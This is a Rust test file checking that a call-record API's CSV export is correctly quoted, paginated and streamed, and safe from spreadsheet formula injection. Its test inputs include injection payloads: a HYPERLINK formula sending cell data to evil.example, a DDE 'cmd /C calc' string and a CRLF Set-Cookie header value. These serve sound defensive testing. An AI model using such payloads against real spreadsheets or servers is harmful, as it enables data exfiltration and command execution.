//! CSV: what any reader of it reads, and no spreadsheet runs.

use std::io::Write;
use std::process::{Command, Stdio};

use reqwest::Method;
use serde_json::{Value, json};
use stowline::app::cdrs::COLUMNS;

use super::super::inside::{Inside, now};
use super::call;

/// The rows of a CSV text, by a reader that insists on equal lengths.
fn read(text: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The same by another reader, Python's.
fn read_by_python(text: &[u8]) -> Option<Vec<Vec<String>>> {
    if !testkit::has_program("python3", "CSV as Python reads it") {
        return None;
    }
    let script = "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode(), newline=''), strict=True))))";
    let mut python =
        Command::new("python3").args(["-c", script]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    python.stdin.take().unwrap().write_all(text).unwrap();
    let output = python.wait_with_output().unwrap();
    assert!(output.status.success());
    Some(serde_json::from_slice(&output.stdout).unwrap())
}

const NASTY: [&str; 12] = [
    "plain",
    "a,b",
    "say \"hello\"",
    "two\r\nlines",
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\tlate",
    " =1",
    "ünïcödé 名前",
    "'quoted'",
];

#[tokio::test(flavor = "multi_thread")]
async fn csv_is_quoted_and_harmless_and_says_what_json_says() {
    let inside = Inside::start().await;
    let start = now() - 1000;
    for (index, name) in (0..).zip(NASTY) {
        inside.leg(json!({"call_id": format!("c{index}"), "timestamp": start + index, "caller_id_name": name, "caller_id_number": "+14155550123"})).await;
    }
    let path = inside.path("cdrs");
    let query = "ascending=true&utc_offset=-3600";
    let request = inside.api.request(Method::GET, &format!("{path}?{query}")).header("accept", "text/csv");
    let answer = inside.api.send(request.header("x-file-name", "calls of may.csv")).await.expect_status(200);
    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=calls_of_may.csv"));
    let text = std::str::from_utf8(&answer.body).unwrap();
    assert!(text.starts_with("id,call_id,caller_id_number,") && text.ends_with("\r\n"));
    let rows = read(&answer.body);
    assert_eq!(rows[0], COLUMNS);
    if let Some(by_python) = read_by_python(&answer.body) {
        assert_eq!(by_python, rows);
    }
    let listed = inside.api.get(&format!("{path}?{query}")).await.data();
    assert_eq!(rows.len(), NASTY.len() + 1);
    for ((row, listed), name) in rows[1..].iter().zip(listed.as_array().unwrap()).zip(NASTY) {
        let cells: Vec<String> = COLUMNS.iter().map(|column| listed[*column].as_str().unwrap().to_owned()).collect();
        assert_eq!(cells[3], name);
        for (cell, told) in row.iter().zip(&cells) {
            assert!(cell == told || *cell == format!("'{told}"), "{cell:?} for {told:?}");
            let first = cell.trim_start_matches(' ').chars().next();
            let number = cell.get(1..).is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit()));
            assert!(number || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{cell:?}");
        }
        assert_eq!(row[2], "+14155550123", "a phone number is a number");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_is_asked_for_in_several_ways_and_named() {
    let inside = Inside::start().await;
    call(&inside, "k", now() - 300, None).await;
    let path = inside.path("cdrs");
    for query in ["accept=csv", "accept=text/csv", "accept=text/csv&file_name=x", "accept=text/csv&paginate=false"] {
        let answer = inside.api.get(&format!("{path}?{query}")).await.expect_status(200);
        assert_eq!(read(&answer.body).len(), 3, "{query}");
        let name = if query.contains("file_name") { "x.csv" } else { "cdrs.csv" };
        assert_eq!(answer.header("content-disposition"), Some(format!("attachment; filename={name}").as_str()));
    }
    let calls = inside.api.get(&format!("{}?accept=csv", inside.path("cdrs/interaction"))).await.expect_status(200);
    assert_eq!(read(&calls.body).len(), 2);
    let empty = inside.api.get(&format!("{path}?accept=csv&filter_call_id=none")).await.expect_status(200);
    assert_eq!(read(&empty.body), [COLUMNS.map(str::to_owned).to_vec()], "the header comes once, rows or none");
    inside.api.get(&format!("{path}?accept=image/png")).await.expect_status(406);
    inside.api.get(&format!("{path}?accept=csv&created_from=x")).await.expect_status(400);
    let odd = inside.api.request(Method::GET, &format!("{path}?accept=csv&file_name=%0d%0aSet-Cookie:%20x"));
    let odd = inside.api.send(odd).await.expect_status(200);
    assert!(odd.header("set-cookie").is_none());
}

#[tokio::test(flavor = "multi_thread")]
async fn thousands_of_legs_come_in_pages_and_in_one_stream() {
    let inside = Inside::start().await;
    let (start, count) = (now() - 100_000, 2_400_i64);
    let mut recorded = tokio::task::JoinSet::new();
    for index in 0..count {
        let (app, account) = (inside.app().clone(), inside.account.clone());
        let leg = json!({"call_id": format!("c{index:05}"), "timestamp": start + index / 3, "caller_id_name": "x,y"});
        let leg = super::super::inside::object(leg);
        recorded.spawn(async move { stowline::app::cdrs::record(&app, &account, leg).await.unwrap() });
    }
    recorded.join_all().await;
    let path = inside.path("cdrs");
    let (mut seen, mut next, mut pages) = (Vec::new(), String::new(), 0);
    loop {
        let answer = inside.api.get(&format!("{path}?page_size=700&start_key={next}")).await.expect_status(200).json();
        pages += 1;
        seen.extend(answer["data"].as_array().unwrap().iter().map(|row| row["call_id"].as_str().unwrap().to_owned()));
        match answer["next_start_key"].as_str() {
            Some(key) => next = key.to_owned(),
            None => break,
        }
    }
    let wanted: Vec<String> = (0..count).rev().map(|index| format!("c{index:05}")).collect();
    assert_eq!((pages, seen == wanted), (4, true));
    let answer = inside.api.get(&format!("{path}?accept=csv")).await.expect_status(200);
    assert_eq!((answer.header("content-length"), answer.header("transfer-encoding")), (None, Some("chunked")));
    let streamed: Vec<String> = read(&answer.body)[1..].iter().map(|row| row[1].clone()).collect();
    assert!(streamed == wanted, "{} rows", streamed.len());
    let all = inside.api.get(&format!("{path}?paginate=false")).await.expect_status(200).data();
    assert_eq!(all.as_array().map(Vec::len), usize::try_from(count).ok());
    let calls = inside.api.get(&format!("{}?accept=csv", inside.path("cdrs/interaction"))).await.expect_status(200);
    assert_eq!(read(&calls.body).len() - 1, usize::try_from(count).unwrap());
    let summary = inside.api.get(&inside.path("cdrs/summary")).await.data();
    assert_eq!((&summary["legs"], &summary["interactions"]), (&Value::from(count), &Value::from(count)));

    // A page of CSV, when one is asked for, tells of the next in its headers.
    let (mut rows, mut next) = (Vec::new(), String::new());
    loop {
        let answer =
            inside.api.get(&format!("{path}?accept=csv&page_size=1000&start_key={next}")).await.expect_status(200);
        let page = read(&answer.body);
        assert_eq!(answer.header("page-size"), Some((page.len() - 1).to_string().as_str()));
        rows.extend(page[1..].iter().map(|row| row[1].clone()));
        match answer.header("next-start-key") {
            Some(key) => next = key.to_owned(),
            None => break,
        }
    }
    assert!(rows == wanted, "{} rows", rows.len());
}
